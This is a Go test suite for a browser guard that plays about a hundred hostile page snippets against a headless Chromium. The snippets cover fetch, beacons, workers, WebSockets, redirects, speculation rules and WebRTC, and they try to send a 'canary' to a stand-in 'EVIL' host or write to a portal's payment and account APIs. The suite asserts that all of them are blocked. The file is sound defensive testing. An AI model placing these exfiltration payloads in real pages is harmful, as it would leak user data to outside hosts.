package browser

import (
	"context"
	"crypto/x509"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httputil"
	"os"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/go-rod/rod"
	"github.com/go-rod/rod/lib/launcher"
	"github.com/go-rod/rod/lib/proto"
)

// A trick is one way in which a page has something sent. `EVIL` in its page stands for another origin, `PORTAL` for
// the portal's own.
type trick struct {
	name string
	// page is the body of the page.
	page string
	// header is set on the page's answer.
	header http.Header
	// wall and reason say who must have stopped it and why; no reason if Chromium itself never tries under our flags.
	wall   Wall
	reason Reason
	// write says that it is a write to the portal, which ends the session.
	write bool
	// uncontrolled tricks are not demanded to work in an unguarded browser either, because they need what a test
	// server on loopback does not have.
	uncontrolled string
}

var tricks = []trick{
	{name: "fetch", page: `<script>fetch('EVIL/x?q=canary')</script>`, wall: InBrowser, reason: otherHost},
	{name: "fetch-post", page: `<script>fetch('EVIL/x', {method: 'POST', mode: 'no-cors', body: 'canary'})</script>`, wall: InBrowser, reason: otherHost},
	{name: "fetch-post-portal", page: `<script>fetch('/api/payments', {method: 'POST', headers: {'Content-Type': 'application/json'}, body: '{"amount": 1}'})</script>`, wall: InBrowser, write: true, reason: noRule},
	{name: "fetch-post-file", page: `<script>const f = new FormData(); f.append('x', new Blob(['canary']), 'x'); fetch('/api/exports?to=x', {method: 'POST', body: f})</script>`, wall: InBrowser, write: true, reason: bodyUnreadable},
	{name: "fetch-post-blob", page: `<script>fetch('/api/exports?to=x', {method: 'POST', body: new Blob(['{"amount": 1}'], {type: 'application/json'})})</script>`, wall: InBrowser, write: true, reason: bodyField},
	{name: "fetch-odd-method", page: `<script>fetch('/api/account', {method: 'MARY-SMITH'})</script>`, wall: InBrowser, write: true, reason: noMethod},
	{name: "fetch-delete-portal", page: `<script>fetch('/api/account', {method: 'DELETE'})</script>`, wall: InBrowser, write: true, reason: noMethod},
	{name: "xhr-post", page: `<script>const x = new XMLHttpRequest(); x.open('POST', '/api/payments'); x.send('a=1')</script>`, wall: InBrowser, write: true, reason: noRule},
	{name: "xhr-sync", page: `<script>const x = new XMLHttpRequest(); x.open('GET', '/api/patients/1', false); x.send()</script>`, wall: InBrowser, reason: noRule},
	{name: "form-post", page: `<form method=post action=/api/payments><input name=amount value=1></form><script>document.forms[0].submit()</script>`, wall: InBrowser, write: true, reason: noRule},
	{name: "form-post-evil", page: `<form method=post action=EVIL/x><input name=amount value=1></form><script>document.forms[0].submit()</script>`, wall: InBrowser, reason: otherHost},
	{name: "form-new-tab", page: `<form method=post action=EVIL/x target=_blank><input name=amount value=1></form><script>document.forms[0].submit()</script>`, wall: InBrowser, reason: otherHost},
	{name: "beacon", page: `<script>navigator.sendBeacon('/api/telemetry', 'canary')</script>`, wall: InBrowser, reason: noRule},
	{name: "beacon-evil", page: `<script>navigator.sendBeacon('EVIL/x', 'canary')</script>`, wall: InBrowser, reason: otherHost},
	{name: "ping", page: `<a href=#there ping=EVIL/x>x</a><script>document.querySelector('a').click()</script>`, wall: InBrowser, reason: otherHost},
	{name: "prefetch", page: `<link rel=prefetch href=/patients/1>`, wall: InBrowser, reason: noRule},
	{name: "preload", page: `<link rel=preload as=fetch href=EVIL/x crossorigin>`, wall: InBrowser, reason: otherHost},
	{name: "modulepreload", page: `<link rel=modulepreload href=EVIL/x.js>`, wall: InBrowser, reason: otherHost},
	{name: "preconnect", page: `<link rel=preconnect href=EVIL><link rel=dns-prefetch href=EVIL>`, uncontrolled: "the headless shell does not connect ahead"},
	{name: "icon", page: `<link rel=icon href=EVIL/favicon.ico>`, uncontrolled: "a browser without a window asks for no icon"},
	{name: "image", page: `<img src=/api/patients/1/photo>`, wall: InBrowser, reason: noRule},
	{name: "image-evil", page: `<img src="EVIL/x?q=canary">`, wall: InBrowser, reason: otherHost},
	{name: "style", page: `<style>@import 'EVIL/x.css'; body { background: url(EVIL/y.png) }</style><p>x`, wall: InBrowser, reason: otherHost},
	{name: "font", page: `<style>@font-face { font-family: f; src: url(EVIL/f.woff2) } p { font-family: f }</style><p>x`, wall: InBrowser, reason: otherHost},
	{name: "script", page: `<script src=EVIL/x.js></script>`, wall: InBrowser, reason: otherHost},
	{name: "import", page: `<script type=module>import('EVIL/x.js')</script>`, wall: InBrowser, reason: otherHost},
	{name: "video", page: `<video src=EVIL/x.mp4 preload=auto></video>`, wall: InBrowser, reason: otherHost},
	{name: "svg", page: `<svg><image href=EVIL/x.svg /></svg>`, wall: InBrowser, reason: otherHost},
	{name: "eventsource", page: `<script>new EventSource('EVIL/x')</script>`, wall: InBrowser, reason: otherHost},
	{name: "iframe", page: `<iframe src=EVIL/x></iframe>`, wall: InBrowser, reason: otherHost},
	{name: "iframe-portal", page: `<iframe src=/patients/1></iframe>`, wall: InBrowser, reason: noRule},
	{name: "iframe-srcdoc", page: `<iframe srcdoc="<script>fetch('EVIL/x', {method: 'POST', mode: 'no-cors'})</script>"></iframe>`, wall: InBrowser, reason: otherHost},
	{name: "iframe-sandboxed", page: `<iframe sandbox=allow-scripts srcdoc="<img src=EVIL/x>"></iframe>`, wall: InBrowser, reason: otherHost},
	{name: "iframe-data", page: `<iframe src="data:text/html,<img src=EVIL/x>"></iframe>`, wall: InBrowser, reason: otherHost},
	{name: "object", page: `<object data=EVIL/x></object>`, wall: InBrowser, reason: otherHost},
	{name: "redirect", page: `<script>fetch('/redirect?to=EVIL/x')</script>`, wall: InBrowser, reason: otherHost},
	{name: "redirect-portal", page: `<img src="/redirect?to=PORTAL/api/patients/1/photo">`, wall: InBrowser, reason: noRule},
	{name: "redirect-post", page: `<script>fetch('/api/exports?to=EVIL/x', {method: 'POST', mode: 'no-cors'})</script>`, wall: InBrowser, reason: otherHost},
	{name: "redirect-navigation", page: `<script>location = '/redirect?to=EVIL/x'</script>`, wall: InBrowser, reason: otherHost},
	{name: "meta-refresh", page: `<meta http-equiv=refresh content="0; url=EVIL/x">`, wall: InBrowser, reason: otherHost},
	{name: "location", page: `<script>location = '/patients/1'</script>`, wall: InBrowser, reason: noRule},
	{name: "popup", page: `<script>open('EVIL/x')</script>`, wall: InBrowser, reason: otherHost},
	{name: "popup-portal", page: `<script>open('/patients/1')</script>`, wall: InBrowser, reason: noRule},
	{name: "popup-noopener", page: `<a href=EVIL/x target=_blank rel=noopener>x</a><script>document.querySelector('a').click()</script>`, wall: InBrowser, reason: otherHost},
	{name: "popup-script", page: `<script>const w = open('about:blank'); w.fetch('EVIL/x', {method: 'POST', mode: 'no-cors'})</script>`, wall: InBrowser, reason: otherHost},
	{name: "download-link", page: `<a href=EVIL/x download=x>x</a><script>document.querySelector('a').click()</script>`, wall: InBrowser, reason: otherHost},
	{name: "worker", page: `<script>new Worker('/assets/worker.js').postMessage('EVIL/x')</script>`, wall: InBrowser, reason: otherHost},
	{name: "worker-blob", page: `<script>new Worker(URL.createObjectURL(new Blob(["fetch('EVIL/x', {method: 'POST', mode: 'no-cors'})"])))</script>`, wall: InBrowser, reason: otherHost},
	{name: "worker-nested", page: `<script>new Worker(URL.createObjectURL(new Blob(["new Worker('PORTAL/assets/worker.js').postMessage('EVIL/x')"])))</script>`, wall: InBrowser, reason: otherHost},
	{name: "worker-import", page: `<script>new Worker(URL.createObjectURL(new Blob(["importScripts('EVIL/x.js')"])))</script>`, wall: InBrowser, reason: otherHost},
	{name: "shared-worker", page: `<script>new SharedWorker('/assets/shared.js').port.postMessage('EVIL/x')</script>`, wall: InBrowser, reason: otherHost},
	{name: "service-worker", page: `<script>navigator.serviceWorker.register('/assets/service.js?to=EVIL/x')</script>`, wall: InBrowser, reason: otherHost},
	{name: "worklet", page: `<script>CSS.paintWorklet.addModule('EVIL/x.js')</script>`, wall: InBrowser, reason: otherHost},
	{name: "unload-keepalive", page: `<script>addEventListener('pagehide', () => fetch('EVIL/x', {method: 'POST', mode: 'no-cors', keepalive: true}))</script>`, wall: InBrowser, reason: otherHost},
	{name: "unload-beacon", page: `<script>addEventListener('pagehide', () => navigator.sendBeacon('EVIL/x', 'canary'))</script>`, wall: InBrowser, reason: otherHost},
	{name: "speculation", page: `<script type=speculationrules>{"prefetch": [{"source": "list", "urls": ["/patients/1"], "eagerness": "immediate"}], "prerender": [{"source": "list", "urls": ["/patients/2"], "eagerness": "immediate"}]}</script>`, wall: InProxy, reason: noRule},
	{name: "csp-report", page: `<img src=/api/patients/1/photo>`, header: http.Header{"Content-Security-Policy": {"img-src 'none'; report-uri EVIL/x"}}, wall: InBrowser, reason: otherHost},
	{name: "link-header", page: `<p>x`, header: http.Header{"Link": {"<EVIL/x>; rel=preload; as=image"}}, wall: InBrowser, reason: otherHost},
	{name: "refresh-header", page: `<p>x`, header: http.Header{"Refresh": {"0; url=EVIL/x"}}, wall: InBrowser, reason: otherHost},
	{name: "reporting", page: `<script>document.write('<p>x')</script>`, header: http.Header{"Reporting-Endpoints": {`default="EVIL/x"`}, "Document-Policy": {"document-write=?0"}}, uncontrolled: "reports wait a minute"},
	{name: "websocket-evil", page: `<script>new WebSocket('EVIL/x'.replace('http', 'ws'))</script>`, wall: InProxy, reason: tunnel},
	{name: "websocket-portal", page: `<script>new WebSocket('PORTAL/cable'.replace('http', 'ws'))</script>`, wall: InProxy, reason: tunnel},
	{name: "websocket-worker", page: `<script>new Worker(URL.createObjectURL(new Blob(["new WebSocket('PORTAL/cable'.replace('http', 'ws'))"])))</script>`, wall: InProxy, reason: tunnel},
	{name: "websocket-popup", page: `<script>const w = open('about:blank'); new w.WebSocket('PORTAL/cable'.replace('http', 'ws'))</script>`, wall: InProxy, reason: tunnel},
	{name: "websocket-data", page: `<iframe src="data:text/html,<script>new WebSocket('PORTAL/cable'.replace('http', 'ws'))</script>"></iframe>`, wall: InProxy, reason: tunnel},
	{name: "webrtc", page: `<script>const c = new RTCPeerConnection({iceServers: [{urls: 'stun:UDP'}]}); c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o))</script>`},
	{name: "webtransport", page: `<script>new WebTransport('https://UDP/x')</script>`},
	{name: "form-image", page: `<form method=post action=/api/account><input type=image formaction=/api/payments src=data:,></form><script>document.querySelector('input').click()</script>`, wall: InBrowser, write: true, reason: noRule},
	{name: "form-dialog-name", page: `<form method=post action=/api/payments target=frame><input name=action value=x></form><iframe name=frame></iframe><script>HTMLFormElement.prototype.submit.call(document.forms[0])</script>`, wall: InBrowser, write: true, reason: noRule},
	{name: "ping-portal", page: `<a href=#there ping=/api/payments>x</a><script>document.querySelector('a').click()</script>`, wall: InBrowser, write: true, reason: noRule},
	{name: "srcset", page: `<img srcset="EVIL/x.png 1x"><picture><source srcset=EVIL/y.png><img src=data:,></picture>`, wall: InBrowser, reason: otherHost},
	{name: "track", page: `<video src=/api/account><track default kind=captions src=/patients/1></video><script>document.querySelector('track').track.mode = 'showing'</script>`, wall: InBrowser, reason: noRule},
	{name: "embed", page: `<embed src=EVIL/x type=text/html>`, wall: InBrowser, reason: otherHost},
	{name: "javascript-frame", page: `<iframe src="javascript:fetch('EVIL/x', {method: 'POST', mode: 'no-cors'})"></iframe>`, wall: InBrowser, reason: otherHost},
	{name: "blob-document", page: `<script>const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob(["<img src='EVIL/blob'>"], {type: 'text/html'})); document.body.append(f)</script>`},
	{name: "import-map", page: `<script type=importmap>{"imports": {"x": "EVIL/x.js"}}</script><script type=module>import 'x'</script>`, wall: InBrowser, reason: otherHost},
	{name: "redirect-post-portal", page: `<script>fetch('/api/exports?to=PORTAL/api/payments', {method: 'POST'})</script>`, wall: InBrowser, write: true, reason: noRule},
	{name: "service-worker-portal", page: `<script>navigator.serviceWorker.register('/assets/service.js?to=PORTAL/api/payments')</script>`, wall: InBrowser, write: true, reason: noRule},
	{name: "shared-worker-portal", page: `<script>new SharedWorker('/assets/shared.js').port.postMessage('PORTAL/api/payments')</script>`, wall: InBrowser, write: true, reason: noRule},
	{name: "unload-keepalive-portal", page: `<script>addEventListener('pagehide', () => fetch('/api/payments', {method: 'POST', keepalive: true}))</script>`, wall: InBrowser, write: true, reason: noRule},
	{name: "unload-fetch-later", page: `<script>fetchLater('EVIL/x', {method: 'POST', body: 'canary'})</script>`, wall: InBrowser, reason: otherHost},
	{name: "unload-xhr", page: `<script>addEventListener('pagehide', () => { const x = new XMLHttpRequest(); x.open('POST', 'EVIL/x', false); x.send('canary') })</script>`, uncontrolled: "Chromium allows no such call at that moment"},
	{name: "speculation-evil", page: `<script type=speculationrules>{"prefetch": [{"source": "list", "urls": ["EVIL/x"], "eagerness": "immediate"}]}</script>`, wall: InProxy, reason: otherHost},
	{name: "speculation-document", page: `<a href=/patients/3>x</a><script type=speculationrules>{"prefetch": [{"source": "document", "where": {"href_matches": "/*"}, "eagerness": "immediate"}]}</script>`, wall: InProxy, reason: noRule},
	{name: "speculation-header", page: `<p>x`, header: http.Header{"Speculation-Rules": {`"/assets/rules.json"`}}, wall: InProxy, reason: noRule},
	{name: "manifest", page: `<link rel=manifest href=EVIL/m.json>`, uncontrolled: "a browser without a window installs nothing"},
	{name: "background-fetch", page: `<script>navigator.serviceWorker.register('/assets/service.js').then(() => navigator.serviceWorker.ready).then(r => r.backgroundFetch.fetch('x', ['EVIL/x']))</script>`, uncontrolled: "needs a permission that nobody gives"},
	{name: "background-sync", page: `<script>navigator.serviceWorker.register('/assets/service.js').then(() => navigator.serviceWorker.ready).then(r => r.sync.register('x'))</script>`, uncontrolled: "needs a permission that nobody gives"},
	{name: "attribution", page: `<img src=data:, attributionsrc="EVIL/x">`, uncontrolled: "Chromium has given it up"},
	{name: "identity", page: `<script>navigator.credentials.get({identity: {providers: [{configURL: 'EVIL/x.json', clientId: 'canary'}]}})</script>`, wall: InProxy, reason: otherHost},
	{name: "payment", page: `<script>new PaymentRequest([{supportedMethods: 'EVIL/x'}], {total: {label: 'x', amount: {currency: 'CAD', value: '1'}}}).canMakePayment()</script>`, uncontrolled: "needs a window"},
	{name: "dictionary", page: `<link rel=compression-dictionary href=EVIL/x>`, wall: InBrowser, reason: otherHost},
	{name: "error-logging", page: `<img src=/api/account>`, header: http.Header{"Report-To": {`{"group": "default", "max_age": 9999, "endpoints": [{"url": "EVIL/x"}]}`}, "Nel": {`{"report_to": "default", "max_age": 9999, "success_fraction": 1, "failure_fraction": 1}`}}, uncontrolled: "needs a certificate that an authority vouches for"},
	{name: "alternative-service", page: `<img src=/api/account>`, header: http.Header{"Alt-Svc": {`h3="UDP"; ma=9999`}, "Strict-Transport-Security": {"max-age=9999"}}, uncontrolled: "needs a certificate that an authority vouches for"},
	{name: "webrtc-turn", page: `<script>const c = new RTCPeerConnection({iceServers: [{urls: 'turn:UDP?transport=udp', username: 'canary', credential: 'x'}]}); c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o))</script>`},
	{name: "websocket-shared-worker", page: `<script>new SharedWorker(URL.createObjectURL(new Blob(["new WebSocket('PORTAL/cable'.replace('http', 'ws'))"])))</script>`, wall: InProxy, reason: tunnel},
	{name: "websocket-service-worker", page: `<script>navigator.serviceWorker.register('/assets/service.js?socket='+encodeURIComponent('PORTAL/cable'.replace('http', 'ws')))</script>`, wall: InProxy, reason: tunnel},
}

// A hostileWorld is a portal that serves the tricks, another server, and a UDP socket, all of which note what arrives.
type hostileWorld struct {
	portal, evil string
	udp          string
	// roots and pins vouch for the certificates of portal and evil where they speak TLS.
	roots        *x509.CertPool
	pins         []string
	mu           sync.Mutex
	atPortal     []string
	atEvil       []string
	evilContacts int
	packets      int
}

func newHostileWorld(t *testing.T, secure bool) *hostileWorld {
	w := &hostileWorld{}
	contact := func() {
		w.mu.Lock()
		defer w.mu.Unlock()
		w.evilContacts++
	}
	if secure {
		var first, second string
		w.portal, w.roots, first = serveTLS(t, http.HandlerFunc(w.servePortal), nil)
		w.evil, _, second = serveTLS(t, http.HandlerFunc(w.serveEvil), contact)
		w.pins = []string{first, second}
	} else {
		w.portal = serve(t, http.HandlerFunc(w.servePortal), nil)
		w.evil = serve(t, http.HandlerFunc(w.serveEvil), contact)
	}
	packets, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	var reading sync.WaitGroup
	reading.Go(func() {
		for buffer := make([]byte, 2048); ; {
			if _, _, err := packets.ReadFrom(buffer); err != nil {
				return
			}
			w.mu.Lock()
			w.packets++
			w.mu.Unlock()
		}
	})
	t.Cleanup(func() { packets.Close(); reading.Wait() })
	w.udp = packets.LocalAddr().String()
	return w
}

func (w *hostileWorld) fill(text string) string {
	return strings.NewReplacer("EVIL", w.evil, "PORTAL", w.portal, "UDP", w.udp).Replace(text)
}

func (w *hostileWorld) serveEvil(_ http.ResponseWriter, r *http.Request) {
	w.mu.Lock()
	defer w.mu.Unlock()
	w.atEvil = append(w.atEvil, r.Method+" "+r.URL.Path)
}

const sendOnMessage = `onmessage = e => fetch(e.data, {method: 'POST', mode: 'no-cors', body: 'canary'})`

func (w *hostileWorld) servePortal(out http.ResponseWriter, r *http.Request) {
	w.mu.Lock()
	w.atPortal = append(w.atPortal, r.Method+" "+r.URL.Path)
	w.mu.Unlock()
	script := func(text string) {
		out.Header().Set("Content-Type", "text/javascript")
		io.WriteString(out, text)
	}
	switch {
	case strings.HasPrefix(r.URL.Path, "/trick/"):
		name := strings.TrimPrefix(r.URL.Path, "/trick/")
		at := slices.IndexFunc(tricks, func(t trick) bool { return t.name == name })
		if at < 0 {
			http.NotFound(out, r)
			return
		}
		for key, values := range tricks[at].header {
			out.Header().Set(key, w.fill(values[0]))
		}
		out.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(out, `<!doctype html><title>%s</title>%s`, name, w.fill(tricks[at].page))
	case r.URL.Path == "/redirect":
		http.Redirect(out, r, r.URL.Query().Get("to"), http.StatusFound)
	case r.URL.Path == "/api/exports":
		http.Redirect(out, r, r.URL.Query().Get("to"), http.StatusTemporaryRedirect)
	case r.URL.Path == "/assets/worker.js":
		script(sendOnMessage)
	case r.URL.Path == "/assets/shared.js":
		script(`onconnect = e => { const p = e.ports[0]; p.onmessage = m => fetch(m.data, {method: 'POST', mode: 'no-cors', body: 'canary'}) }`)
	case r.URL.Path == "/assets/service.js":
		script(`const asked = new URL(location).searchParams;
			if (asked.get('socket')) new WebSocket(asked.get('socket'));
			oninstall = e => e.waitUntil(asked.get('to') ? fetch(asked.get('to'), {method: 'POST', mode: 'no-cors'}) : null)`)
	case r.URL.Path == "/assets/rules.json":
		out.Header().Set("Content-Type", "application/speculationrules+json")
		io.WriteString(out, `{"prefetch": [{"source": "list", "urls": ["/patients/4"], "eagerness": "immediate"}]}`)
	case r.URL.Path == "/cable":
		out.WriteHeader(http.StatusBadRequest)
	case r.URL.Path == "/api/account":
		io.WriteString(out, `{}`)
	default:
		io.WriteString(out, "a page that must not be opened")
	}
}

// hostileRules allow what the tricks start from, and nothing that they are after.
var hostileRules = []Rule{
	{Purpose: "open the page", Method: "GET", Path: "/trick/:id"},
	{Purpose: "follow a redirect", Method: "GET", Path: "/redirect", Query: []string{"to"}},
	{Purpose: "start an export", Method: "POST", Path: "/api/exports", Query: []string{"to"}},
	{Purpose: "load a worker", Method: "GET", Path: "/assets/worker.js"},
	{Purpose: "load a shared worker", Method: "GET", Path: "/assets/shared.js"},
	{Purpose: "load a service worker", Method: "GET", Path: "/assets/service.js", Query: []string{"to", "socket"}},
	{Purpose: "load rules", Method: "GET", Path: "/assets/rules.json"},
	{Purpose: "read the account", Method: "GET", Path: "/api/account"},
}

// walls says which of them stand.
type walls int

const (
	bothWalls walls = iota
	browserAlone
	proxyAlone
)

// TestHostilePages plays every trick against the guard: as it is, and to prove each wall by itself, against one wall
// alone. What interception does not see is not played against it alone: that it does not is what the proxy is for.
func TestHostilePages(t *testing.T) {
	for _, arena := range []struct {
		name   string
		secure bool
		walls  walls
		// long arenas are left to the long suite: they differ from the others in one point only.
		long bool
	}{
		{"http", false, bothWalls, false},
		{"https", true, bothWalls, false},
		{"http, browser alone", false, browserAlone, false},
		{"https, browser alone", true, browserAlone, true},
		{"http, proxy alone", false, proxyAlone, true},
		{"https, proxy alone", true, proxyAlone, false},
	} {
		if arena.long && os.Getenv("FALLOFF_LONG") == "" {
			continue
		}
		t.Run(arena.name, func(t *testing.T) {
			t.Parallel()
			fight(t, newHostileWorld(t, arena.secure), arena.walls)
		})
	}
}

func fight(t *testing.T, w *hostileWorld, standing walls) {
	cfg := Config{
		Origin: mustOrigin(t, w.portal), Rules: hostileRules, roots: w.roots, unguarded: standing == proxyAlone,
		Tolerated: []Tolerated{{Why: "usage beacon", Method: "POST", Path: "/api/telemetry"}},
		Words:     []string{"api", "payments", "patients", "photo", "telemetry", "cable"},
		flags:     []string{"--short-reporting-delay"},
	}
	if standing == browserAlone {
		cfg.wayOut, cfg.trusted = startOpenProxy(t), w.pins
	}
	other := mustOrigin(t, w.evil).Host
	s := startSession(t, cfg)
	for _, trick := range tricks {
		if standing == browserAlone && trick.wall == InProxy {
			continue
		}
		before := s.Ledger().Entries()
		stopped := func() bool {
			// Of a write that the proxy alone stops, the refusal may be another's.
			if trick.write && s.Context().Err() == nil {
				return false
			}
			return trick.reason == "" || slices.ContainsFunc(s.Ledger().Entries(), func(e Entry) bool {
				switch {
				case e.Allowed || e.Count <= countOf(before, e):
					return false
				case standing == proxyAlone:
					// Of a tunnel to another host it is not seen what was to be asked there. Others are the browser's own.
					return e.Wall == InProxy && (e.Host == portalHost || e.Host == other)
				default:
					return e.Wall == trick.wall && e.Reason == w.reason(trick)
				}
			})
		}
		play(t, s.Context(), s.rod, w.portal, trick, stopped)
		if trick.write {
			eventually(t, trick.name+" ends the session", func() bool { return s.Context().Err() != nil })
		}
		switch cause := context.Cause(s.Context()); {
		case cause == nil:
			continue
		case !trick.write || !errors.Is(cause, ErrRefusedWrite):
			t.Errorf("%s: the session ended with %v", trick.name, cause)
		}
		if err := s.Close(); err != nil {
			t.Error(err)
		}
		s = startSession(t, cfg)
	}
	if err := s.Close(); err != nil {
		t.Error(err)
	}
	w.mu.Lock()
	defer w.mu.Unlock()
	if w.evilContacts != 0 || len(w.atEvil) != 0 {
		t.Errorf("the other server was contacted %d times and received %q", w.evilContacts, w.atEvil)
	}
	if w.packets != 0 {
		t.Errorf("%d UDP packets left the browser", w.packets)
	}
	for _, got := range w.atPortal {
		method, path, _ := strings.Cut(got, " ")
		if !slices.ContainsFunc(hostileRules, func(r Rule) bool { return r.Method == method && r.matchesPath(segments(path)) }) {
			t.Errorf("the portal received %s", got)
		}
	}
}

// reason is why a trick is refused. The proxy sees a WebSocket to a portal that speaks TLS for what it is, and of what is
// asked of another host over TLS the tunnel only.
func (w *hostileWorld) reason(trick trick) Reason {
	switch {
	case w.roots == nil || trick.wall != InProxy:
		return trick.reason
	case trick.reason == tunnel && strings.Contains(trick.page, "PORTAL"):
		return protocolUpgrade
	case trick.reason == otherHost:
		return tunnel
	default:
		return trick.reason
	}
}

// startOpenProxy runs a proxy that lets everything through, so that the wall in the browser stands alone.
func startOpenProxy(t *testing.T) (address string) {
	open := serve(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Method != http.MethodConnect {
			(&httputil.ReverseProxy{Rewrite: func(*httputil.ProxyRequest) {}}).ServeHTTP(w, r)
			return
		}
		there, err := net.Dial("tcp", r.Host)
		if err != nil {
			http.Error(w, "unreachable", http.StatusBadGateway)
			return
		}
		defer there.Close()
		here, buffered, err := http.NewResponseController(w).Hijack()
		if err != nil {
			return
		}
		defer here.Close()
		io.WriteString(here, "HTTP/1.1 200 OK\r\n\r\n")
		go func() {
			io.Copy(there, buffered)
			there.Close()
		}()
		io.Copy(here, there)
	}), nil)
	return strings.TrimPrefix(open, "http://")
}

func countOf(entries []Entry, like Entry) int {
	like.Count = 0
	for _, e := range entries {
		n := e.Count
		e.Count = 0
		if e == like {
			return n
		}
	}
	return 0
}

// play opens a trick's page in a tab of its own and closes the tab when done holds, or, for what happens only then,
// closes it first.
func play(t *testing.T, life context.Context, b *rod.Browser, portal string, trick trick, done func() bool) {
	t.Helper()
	name := trick.name
	ctx, cancel := context.WithTimeout(life, time.Minute)
	defer cancel()
	page, err := b.Context(ctx).Page(proto.TargetCreateTarget{})
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	// A write to the portal ends the session, and with it what was being done.
	ended := func() bool { return trick.write && life.Err() != nil }
	if err := page.Navigate(portal + "/trick/" + name); err != nil && !ended() && !strings.Contains(err.Error(), "ERR_ABORTED") {
		t.Errorf("%s: %v", name, err)
	}
	if trick.reason == "" {
		// Nothing will say that the trick was tried. The page's own requests go out in order, so a few of them are time
		// enough for what was begun before.
		_, _ = page.Eval(`async () => { for (let i = 0; i < 3; i++) { await fetch('/api/account'); await new Promise(r => setTimeout(r)) } }`)
	}
	atUnload := strings.HasPrefix(name, "unload-")
	if atUnload {
		if err := page.WaitLoad(); err != nil && !ended() {
			t.Errorf("%s: %v", name, err)
		}
	} else {
		eventually(t, name, done)
	}
	if ended() {
		return
	}
	if _, err := (proto.TargetCloseTarget{TargetID: page.TargetID}).Call(b.Context(ctx)); err != nil && !ended() {
		t.Errorf("%s: closing the tab: %v", name, err)
	}
	if atUnload {
		eventually(t, name, done)
	}
}

// TestTricksWork plays the same pages in an unguarded browser: a trick that does not work proves nothing.
func TestTricksWork(t *testing.T) {
	path, err := Find(t.Context(), "", false)
	if err != nil {
		t.Fatal(err)
	}
	for _, secure := range []bool{false, true} {
		t.Run(map[bool]string{false: "http", true: "https"}[secure], func(t *testing.T) {
			t.Parallel()
			w := newHostileWorld(t, secure)
			l := launcher.New().Bin(path).Leakless(false).NoSandbox(true).Headless(true).UserDataDir(t.TempDir()).
				Set("disable-popup-blocking").Set("short-reporting-delay").Set("ignore-certificate-errors-spki-list", w.pins...)
			control, err := l.Launch()
			if err != nil {
				t.Fatal(err)
			}
			t.Cleanup(l.Kill)
			b := rod.New().ControlURL(control)
			if err := b.Connect(); err != nil {
				t.Fatal(err)
			}
			for _, trick := range tricks {
				before := w.reached()
				play(t, t.Context(), b, w.portal, trick, func() bool { return trick.uncontrolled != "" || w.reached() > before })
			}
		})
	}
}

// reached counts what arrived where nothing should.
func (w *hostileWorld) reached() int {
	w.mu.Lock()
	defer w.mu.Unlock()
	n := w.evilContacts + len(w.atEvil) + w.packets
	for _, got := range w.atPortal {
		method, path, _ := strings.Cut(got, " ")
		if !slices.ContainsFunc(hostileRules, func(r Rule) bool { return r.Method == method && r.matchesPath(segments(path)) }) {
			n++
		}
	}
	return n
}
